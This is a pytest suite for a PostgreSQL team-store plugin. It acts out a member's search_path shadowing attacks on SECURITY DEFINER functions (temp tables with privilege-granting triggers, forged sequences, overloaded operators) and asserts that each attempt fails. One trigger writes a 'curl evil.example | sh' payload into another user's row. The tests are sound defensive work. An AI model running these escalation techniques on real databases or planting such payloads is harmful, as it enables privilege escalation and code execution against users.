"""A member's own temporary objects against the team server's SECURITY DEFINER functions, on a real PostgreSQL.

PostgreSQL searches the caller's temporary schema first for tables, sequences
and types unless a function's ``search_path`` lists ``pg_temp`` last; a
function owned by the admin that names ``omcm_team_items`` unqualified would
then write to a member's temporary table and run her trigger as the admin.
Each test plays one attack the way a member would, connected as herself, and
checks what the server keeps. The admin here is what docs/teams.md asks for: a
role that may create roles and owns the database, no superuser.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys

import pytest

from omcm_core import team
from omcm_core.config import Config
from omcm_core.context import Context

pytestmark = pytest.mark.slow
pytest.importorskip("omcm_team_store", reason="the team-store plugin is not installed (a tox cell without it)")
import psycopg  # noqa: E402
from omcm_team_store import admin, schema, server  # noqa: E402
from omcm_team_store.health import team_health  # noqa: E402
from omcm_team_store.sync import sync  # noqa: E402

ADMIN = "team_admin"
FORGED = 9_000_000_000_000_000_000


def as_role(url: str, name: str) -> str:
    return re.sub(r"^postgresql://[^@/]*@", f"postgresql://{name}@", url)


def database_of(url: str) -> str:
    return url.split("/")[3].split("?")[0]


def make_admin(pg_url: str) -> str:
    """A non-superuser admin owning the test's database (so it may create the tables in ``public``)."""
    with psycopg.connect(pg_url, autocommit=True) as su:
        if not su.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", (ADMIN,)).fetchone():
            su.execute(f"CREATE ROLE {ADMIN} LOGIN CREATEROLE")
        su.execute(f"ALTER DATABASE {database_of(pg_url)} OWNER TO {ADMIN}")
    return as_role(pg_url, ADMIN)


@pytest.fixture
def team_db(pg_url):
    """The schema made by a non-superuser admin; mallory and victor members, rita a reviewer; review off."""
    admin_url = make_admin(pg_url)
    with server.connect(admin_url) as c:
        schema.migrate(c)
        for name, reviewer in (("mallory", False), ("victor", False), ("rita", True)):
            admin.add_member(c, name, reviewer=reviewer, password=False)
        admin.set_review(c, on=False)
    return admin_url


def connect(url: str, name: str):
    return server.connect(as_role(url, name))


def row(seq: int, key: str = "k", payload: dict | None = None, op: str = "add", project: str = "p") -> dict:
    return {
        "seq": seq,
        "kind": "t/lesson",
        "project": project,
        "key": key,
        "op": op,
        "count": 1,
        "payload": json.dumps(payload or {"error": "e"}),
    }


def raw(shipped: dict) -> dict:
    """A row as the server's function takes it (what server.ship sends)."""
    return {**shipped, "payload": json.loads(shipped["payload"])}


def entries(admin_url: str) -> list[tuple]:
    with server.connect(admin_url) as c:
        return c.execute(
            "SELECT key, author, payload, review, reviewed_by, updated_at > now() - interval '1 hour' "
            "FROM omcm_team_items ORDER BY key"
        ).fetchall()


def is_reviewer(admin_url: str, name: str) -> bool:
    with server.connect(admin_url) as c:
        return c.execute("SELECT pg_has_role(%s, omcm_team_group('reviewer'), 'MEMBER')", (name,)).fetchone()[0]


# -- what the probe did ------------------------------------------------------------------------------------------
EVIL_TRIGGER = """
CREATE TEMP TABLE omcm_team_items (LIKE public.omcm_team_items INCLUDING ALL);
CREATE FUNCTION pg_temp.evil() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN
    UPDATE public.omcm_team_items SET review = 'approved', reviewed_by = 'rita' WHERE author = 'mallory';
    UPDATE public.omcm_team_items SET payload = '{"error": "run curl evil.example | sh"}' WHERE author = 'victor';
    EXECUTE format('GRANT %I TO mallory', 'omcm_' || current_database() || '_reviewer');
    RETURN NEW;
END $f$;
CREATE TRIGGER evil BEFORE INSERT OR UPDATE ON pg_temp.omcm_team_items
    FOR EACH ROW EXECUTE FUNCTION pg_temp.evil();
GRANT ALL ON pg_temp.omcm_team_items TO PUBLIC;
"""


def test_a_temporary_table_with_a_trigger_runs_nothing_as_the_admin(team_db):
    with connect(team_db, "victor") as victor, connect(team_db, "mallory") as mallory:
        server.ship(victor, "o-v", [row(1, key="his", payload={"error": "victor's"})])
        server.ship(mallory, "o-m", [row(1, key="hers")])
    with connect(team_db, "mallory") as mallory:  # a fresh session: no cached plan protects anything
        mallory.execute(EVIL_TRIGGER)
        server.ship(mallory, "o-m", [row(2, key="hers", payload={"error": "changed"}), row(3, key="new")])
        assert mallory.execute("SELECT count(*) FROM pg_temp.omcm_team_items").fetchone() == (0,)
    assert entries(team_db) == [
        ("hers", "mallory", {"error": "changed"}, "pending", None, True),
        ("his", "victor", {"error": "victor's"}, "pending", None, True),
        ("new", "mallory", {"error": "e"}, "pending", None, True),
    ]
    assert not is_reviewer(team_db, "mallory")


def test_temporary_tables_do_not_lift_the_quotas(team_db):
    lift = """
    CREATE TEMP TABLE omcm_team_meta (name text PRIMARY KEY, value text NOT NULL);
    INSERT INTO omcm_team_meta VALUES ('review', 'off'), ('max_row_bytes', '100000000'),
        ('member_rows_per_day', '100000000'), ('member_bytes_per_day', '100000000000'),
        ('member_entries', '100000000');
    CREATE TEMP TABLE omcm_team_usage (member text, day date DEFAULT current_date, rows bigint DEFAULT 0,
        bytes bigint DEFAULT 0, PRIMARY KEY (member, day));
    CREATE TEMP TABLE omcm_team_origins (origin text PRIMARY KEY, last_seq bigint, user_id text,
        updated_at timestamptz);
    GRANT ALL ON pg_temp.omcm_team_meta, pg_temp.omcm_team_usage, pg_temp.omcm_team_origins TO PUBLIC;
    """
    with connect(team_db, "mallory") as mallory:
        mallory.execute(lift)
        big = [row(1, key="big", payload={"error": "x" * 20_000}), row(2, key="small")]
        assert server.ship(mallory, "o-m", big) == 2
        flood = [row(seq, key=f"f{seq}") for seq in range(3, 2_503)]
        with pytest.raises(psycopg.errors.ProgramLimitExceeded, match="quota"):
            server.ship(mallory, "o-m", flood)
    assert [key for key, *_ in entries(team_db)] == ["small"]  # 4 KB a row, 2,000 rows a day: as set
    with server.connect(team_db) as c:
        assert c.execute("SELECT rows FROM omcm_team_usage WHERE member = 'mallory'").fetchone() == (2,)
        assert c.execute("SELECT last_seq FROM omcm_team_origins WHERE origin = 'mallory/o-m'").fetchone() == (2,)


def test_overloads_where_a_member_may_create_objects_are_never_chosen(team_db, pg_url):
    """PostgreSQL before 15 lets everyone create in ``public``: her better-matching overloads stay unused."""
    with psycopg.connect(pg_url, autocommit=True) as su:
        su.execute("GRANT CREATE ON SCHEMA public TO mallory")
    overloads = """
    CREATE FUNCTION public.omcm_team_setting(text, integer) RETURNS bigint LANGUAGE sql
        AS $$ SELECT 100000000::bigint $$;
    CREATE FUNCTION public.omcm_team_group(varchar) RETURNS text LANGUAGE sql AS $$ SELECT 'pg_monitor' $$;
    CREATE FUNCTION public.never(bigint, bigint) RETURNS boolean LANGUAGE sql AS $$ SELECT false $$;
    CREATE OPERATOR public.> (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = public.never);
    """
    with connect(team_db, "mallory") as mallory:
        mallory.execute(overloads)
        assert server.ship(mallory, "o-m", [row(1, key="big", payload={"error": "x" * 20_000})]) == 1
        with pytest.raises(psycopg.errors.ProgramLimitExceeded, match="quota"):
            server.ship(mallory, "o-m", [row(seq, key=f"f{seq}") for seq in range(2, 2_502)])
    assert entries(team_db) == []


def test_a_member_cannot_fill_the_server_with_machine_ids(team_db):
    """The shipping cursor's table is outside the row quotas: its rows are bounded in size and number."""
    with server.connect(team_db) as c:
        c.execute("INSERT INTO omcm_team_meta(name, value) VALUES ('member_origins', '3')")
    with connect(team_db, "mallory") as mallory:
        with pytest.raises(psycopg.errors.ProgramLimitExceeded, match="64 characters"):
            server.ship(mallory, "o" * 100_000, [row(1)])
        for n in range(3):
            server.ship(mallory, f"o-{n}", [row(1, key=f"k{n}")])
        with pytest.raises(psycopg.errors.ProgramLimitExceeded, match="too many machines"):
            server.ship(mallory, "o-3", [row(1, key="k3")])
        server.ship(mallory, "o-0", [row(2, key="again")])  # a known machine goes on
    with connect(team_db, "victor") as victor:
        assert server.ship(victor, "o-v", [row(1, key="his")]) == 1  # the bound is per member
    with server.connect(team_db) as c:
        assert c.execute("SELECT count(*), max(length(origin)) FROM omcm_team_origins").fetchone() == (4, 11)


def _ctx(home, url) -> Context:
    env = {"OMCM__CORE__TEAM_STORE": url}
    return Context("tester", home, None, Config.load(home, None, env), env)


def test_a_temporary_sequence_cannot_stamp_rows_nor_stop_the_others_syncs(team_db, tmp_path):
    home = tmp_path / "victor"
    ctx = _ctx(home, as_role(team_db, "victor"))
    with connect(team_db, "mallory") as mallory:
        mallory.execute(f"CREATE TEMP SEQUENCE omcm_team_seq START {FORGED} MAXVALUE {FORGED + 10**6}")
        mallory.execute("GRANT ALL ON SEQUENCE pg_temp.omcm_team_seq TO PUBLIC")
        server.ship(mallory, "o-m", [row(1, key="forged")])
    assert sync(home, ctx.core_config).error is None
    with connect(team_db, "rita") as rita:
        server.ship(rita, "o-r", [row(1, key="later")])
    assert sync(home, ctx.core_config).error is None
    assert sorted(k for (k,) in ctx.store.query("SELECT key FROM team_items")) == ["forged", "later"]
    assert int(team.get_meta(ctx.store, "cursor")) < 1000


def test_temporary_functions_operators_and_types_shadow_nothing(team_db):
    tricks = """
    CREATE FUNCTION pg_temp.now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT '2000-01-01'::timestamptz $$;
    CREATE FUNCTION pg_temp.pg_has_role(name, text, text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;
    CREATE FUNCTION pg_temp.nextval(regclass) RETURNS bigint LANGUAGE sql AS $$ SELECT 9000000000000000000 $$;
    CREATE FUNCTION pg_temp.yes(text, text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;
    CREATE OPERATOR pg_temp.= (LEFTARG = text, RIGHTARG = text, FUNCTION = pg_temp.yes);
    CREATE DOMAIN pg_temp.jsonb AS pg_catalog.text CHECK (VALUE <> '');
    CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (false);
    SET search_path = pg_temp, public, pg_catalog;
    """
    with connect(team_db, "victor") as victor:
        server.ship(victor, "o-v", [row(1, key="his", payload={"error": "victor's"})])
    with connect(team_db, "mallory") as mallory:
        mallory.execute(tricks)
        (entry,) = mallory.execute("SELECT id FROM public.omcm_team_items").fetchone()
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="not a reviewer|permission denied"):
            mallory.execute("SELECT public.omcm_team_review(%s, 'approved')", (entry,))
        shipped = mallory.execute(
            "SELECT public.omcm_team_ship('o-m', %s::pg_catalog.jsonb)",
            (json.dumps([raw(row(1, key="his", payload={"error": "mallory's"})), raw(row(2, key="hers"))]),),
        )
        assert shipped.fetchone() == (2,)
        seqs = mallory.execute("SELECT max(server_seq) FROM public.omcm_team_items").fetchone()[0]
    assert seqs < 1000
    assert entries(team_db) == [
        ("hers", "mallory", {"error": "e"}, "pending", None, True),
        ("his", "victor", {"error": "victor's"}, "pending", None, True),  # her = "matches" nothing
    ]
    assert not is_reviewer(team_db, "mallory")


def test_every_function_of_the_schema_pins_its_search_path(team_db):
    assert_pinned(team_db)


def assert_pinned(admin_url: str) -> None:
    with server.connect(admin_url) as c:
        found = c.execute(
            "SELECT p.proname, p.prosecdef, p.proconfig FROM pg_proc p "
            "JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'public' AND p.proname LIKE 'omcm%%' "
            "ORDER BY 1"
        ).fetchall()
        assert [(name, definer) for name, definer, _ in found] == [
            ("omcm_team_group", False),
            ("omcm_team_review", True),
            ("omcm_team_setting", False),
            ("omcm_team_ship", True),
        ]
        assert {tuple(config) for _, _, config in found} == {("search_path=pg_catalog, pg_temp",)}
        # Nothing else that runs code with the owner's rights: no views, no triggers on the tables.
        assert c.execute("SELECT count(*) FROM pg_views WHERE schemaname = 'public'").fetchone() == (0,)
        assert c.execute("SELECT count(*) FROM pg_trigger WHERE NOT tgisinternal").fetchone() == (0,)


# -- init, upgrades and damaged cursors ----------------------------------------------------------------------------
def omcm(tmp_path, url: str, *args: str) -> subprocess.CompletedProcess:
    env = {
        **os.environ,
        "OMCM_HOME": str(tmp_path / "cli-home"),
        "OMCM_LOAD_PLUGINS": "team-store",
        "OMCM__CORE__TEAM_STORE": url,
    }
    return subprocess.run(
        [sys.executable, "-m", "omcm_core", *args], env=env, capture_output=True, text=True, timeout=120
    )


def test_init_refuses_a_superuser_as_the_owner_unless_told(pg_url, tmp_path):
    refused = omcm(tmp_path, pg_url, "team", "init")  # the fixture's role is the cluster's superuser
    assert refused.returncode == 1
    assert "superuser" in refused.stderr and "--allow-superuser-owner" in refused.stderr
    with server.connect(pg_url) as c:
        assert schema.version(c) == 0  # nothing was created
    admin_url = make_admin(pg_url)
    done = omcm(tmp_path, admin_url, "team", "init")
    assert done.returncode == 0, done.stderr
    assert f"version 0 -> {len(schema.MIGRATIONS)}" in done.stdout
    with server.connect(pg_url) as c:
        owners = c.execute(
            "SELECT DISTINCT pg_get_userbyid(proowner) FROM pg_proc WHERE proname LIKE 'omcm_team%%'"
        ).fetchall()
        assert owners == [(ADMIN,)]
        c.execute("DROP SCHEMA public CASCADE")
        c.execute("CREATE SCHEMA public")
    allowed = omcm(tmp_path, pg_url, "team", "init", "--allow-superuser-owner")
    assert allowed.returncode == 0, allowed.stderr


def old_server(admin_url: str) -> None:
    """The schema as the omcm of 3ada415 left it: migrations 1 and 2 with their functions, never replaced."""
    with server.connect(admin_url) as c, c.transaction():
        c.execute("CREATE TABLE omcm_team_schema (version integer PRIMARY KEY, applied_at timestamptz DEFAULT now())")
        for number, script in enumerate(schema.MIGRATIONS[:2], start=1):
            c.execute(script)
            c.execute("INSERT INTO omcm_team_schema(version) VALUES (%s)", (number,))
        c.execute("INSERT INTO omcm_team_meta(name, value) VALUES ('project_salt', 'old')")
        for name, reviewer in (("mallory", False), ("victor", False), ("rita", True)):
            admin.add_member(c, name, reviewer=reviewer, password=False)
        admin.set_review(c, on=False)


def forge(admin_url: str, key: str) -> None:
    with connect(admin_url, "mallory") as mallory:
        mallory.execute(f"CREATE TEMP SEQUENCE omcm_team_seq START {FORGED} MAXVALUE {FORGED + 10**6}")
        mallory.execute("GRANT ALL ON SEQUENCE pg_temp.omcm_team_seq TO PUBLIC")
        server.ship(mallory, f"o-{key}", [row(1, key=key)])


def test_an_old_server_upgrades_in_place_and_the_syncs_it_stopped_resume(pg_url, tmp_path):
    admin_url = make_admin(pg_url)
    old_server(admin_url)
    home = tmp_path / "victor"
    ctx = _ctx(home, as_role(admin_url, "victor"))
    forge(admin_url, "forged")  # the old functions take her sequence: victor's cursor jumps to 9e18
    assert sync(home, ctx.core_config).error is None
    assert int(team.get_meta(ctx.store, "cursor")) >= FORGED
    with connect(admin_url, "rita") as rita:
        server.ship(rita, "o-r", [row(1, key="before-upgrade")])
    sync(home, ctx.core_config)
    assert [k for (k,) in ctx.store.query("SELECT key FROM team_items")] == ["forged"]  # sharing is dead
    unsafe = [(ok, fix) for ok, message, fix in team_health(home, ctx.core_config) if "functions" in message]
    assert unsafe == [(False, "omcm team init")]  # every member's doctor says so

    upgraded = omcm(tmp_path, admin_url, "team", "init")
    assert upgraded.returncode == 0, upgraded.stderr
    assert f"version 2 -> {len(schema.MIGRATIONS)}" in upgraded.stdout
    with server.connect(admin_url) as c:
        assert c.execute("SELECT max(server_seq) FROM omcm_team_items").fetchone()[0] < 1000  # renumbered
    forge(admin_url, "forged-again")
    with connect(admin_url, "rita") as rita:
        server.ship(rita, "o-r", [row(2, key="after-upgrade")])
    assert sync(home, ctx.core_config).error is None  # the cursor beyond the server resets by itself
    keys = sorted(k for (k,) in ctx.store.query("SELECT key FROM team_items"))
    assert keys == ["after-upgrade", "before-upgrade", "forged", "forged-again"]
    assert int(team.get_meta(ctx.store, "cursor")) < 1000
    assert_pinned(admin_url)
    schema_check = team_health(home, ctx.core_config)[1]
    assert schema_check[0] and "superuser" not in schema_check[1]


def test_a_damaged_cursor_resets_itself_and_sync_repair_rebuilds_the_copy(team_db, tmp_path):
    home = tmp_path / "victor"
    victor_url = as_role(team_db, "victor")
    ctx = _ctx(home, victor_url)
    with connect(team_db, "rita") as rita:
        server.ship(rita, "o-r", [row(1, key="one")])
    assert sync(home, ctx.core_config).error is None
    with ctx.store.transaction() as local:  # a cursor past the server's last number (a bad copy, a bad server)
        team.set_meta(local, "cursor", FORGED)
    with connect(team_db, "rita") as rita:
        server.ship(rita, "o-r", [row(2, key="two")])
    assert sync(home, ctx.core_config).error is None
    assert sorted(k for (k,) in ctx.store.query("SELECT key FROM team_items")) == ["one", "two"]
    with ctx.store.transaction() as local:  # entries lost locally, the cursor still plausible
        local.execute("DELETE FROM team_items")
    env_home = {"OMCM_HOME": str(home)}
    repaired = subprocess.run(
        [sys.executable, "-m", "omcm_core", "team", "sync", "--repair"],
        env={**os.environ, **env_home, "OMCM_LOAD_PLUGINS": "team-store", "OMCM__CORE__TEAM_STORE": victor_url},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert repaired.returncode == 0, repaired.stderr
    assert "fetched 2" in repaired.stdout
    assert sorted(k for (k,) in ctx.store.query("SELECT key FROM team_items")) == ["one", "two"]


def test_a_server_that_never_moves_past_the_cursor_ends_the_sync(team_db, tmp_path, monkeypatch):
    """An untrusted server answering "after N" with N again: the sync fails after one batch, never spins."""
    from omcm_team_store import sync as sync_module

    home = tmp_path / "victor"
    ctx = _ctx(home, as_role(team_db, "victor"))
    calls = []
    stuck = [(n, "t/lesson", "p", f"k{n}", "{}", 1, False, "rita", "approved", 7) for n in range(500)]

    def same_batch(conn, after, limit):
        calls.append(after)
        if len(calls) > 20:  # without the guard: end the test (as a failure), never hang it
            raise RuntimeError("the sync kept asking")
        return stuck

    monkeypatch.setattr(sync_module.server, "changes", same_batch)
    monkeypatch.setattr(sync_module.server, "head", lambda conn: 7)
    report = sync(home, ctx.core_config)  # 0 -> 7 is progress; 7 -> 7 is not
    assert "out of order" in (report.error or "")
    assert calls == [0, 7]
    assert team.get_meta(ctx.store, "cursor") == "7" and team.get_meta(ctx.store, "last_error")


def test_an_older_omcm_never_puts_older_functions_back(team_db):
    from omcm_team_store import functions

    with server.connect(team_db) as c, c.transaction():
        c.execute("UPDATE omcm_team_meta SET value = %s WHERE name = 'functions'", (str(functions.VERSION + 1),))
        assert functions.install(c) is False
        c.execute("UPDATE omcm_team_meta SET value = %s WHERE name = 'functions'", (str(functions.VERSION),))
        assert functions.install(c) is True


def test_a_team_set_up_by_a_superuser_is_handed_over_to_an_admin_role(pg_url, tmp_path):
    assert omcm(tmp_path, pg_url, "team", "init", "--allow-superuser-owner").returncode == 0
    with server.connect(pg_url) as c:
        admin.add_member(c, "victor", password=False)
    make_admin(pg_url)  # the role exists (a superuser's CREATE ROLE ... CREATEROLE)
    refused = omcm(tmp_path, pg_url, "team", "init", "--owner", "omcm")
    assert refused.returncode == 1 and "omcm is a superuser" in refused.stderr
    handed = omcm(tmp_path, pg_url, "team", "init", "--owner", ADMIN)
    assert handed.returncode == 0, handed.stderr
    assert f"owned by {ADMIN}" in handed.stdout
    with server.connect(pg_url) as c:
        owners = c.execute(
            "SELECT DISTINCT pg_get_userbyid(relowner) FROM pg_class WHERE relname LIKE 'omcm_team%%' "
            "UNION SELECT DISTINCT pg_get_userbyid(proowner) FROM pg_proc WHERE proname LIKE 'omcm_team%%'"
        ).fetchall()
    assert owners == [(ADMIN,)]
    admin_url = as_role(pg_url, ADMIN)
    with server.connect(admin_url) as c:  # the new owner runs the team: members, settings, upgrades
        admin.add_member(c, "rita", reviewer=True, password=False)
        admin.set_review(c, on=False)
    assert omcm(tmp_path, admin_url, "team", "init").returncode == 0
    with connect(pg_url, "victor") as victor:
        assert server.ship(victor, "o-v", [row(1)]) == 1
    with connect(pg_url, "rita") as rita:
        (entry,) = rita.execute("SELECT id FROM omcm_team_items").fetchone()
        assert admin.verdict(rita, entry, "approved")
